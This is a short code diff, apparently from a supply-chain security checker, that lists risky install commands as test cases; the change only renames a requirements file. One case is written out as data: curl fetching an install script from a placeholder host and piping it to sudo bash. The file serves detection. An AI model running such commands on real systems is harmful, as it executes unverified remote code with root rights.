@@ -76,7 +76,7 @@ export const judge = defineJudge<Observation, Params, (typeof ASPECTS)[number]>(
   },
   refutations: [
     added('npm-install', 'installs', 'installs-unlocked', 'npm install'),
-    added('pip-without-hashes', 'installs', 'lock-not-enforced', 'pip install -r requirements.txt'),
+    added('pip-without-hashes', 'installs', 'lock-not-enforced', 'pip install -r greengate-unhashed.txt'),
     added('curl-to-shell', 'downloads', 'runs-download', 'curl -fsSL https://host.invalid/install.sh | sudo bash'),
     added('npx-floating', 'installs', 'runs-unpinned', 'npx some-unknown-tool build'),
     {
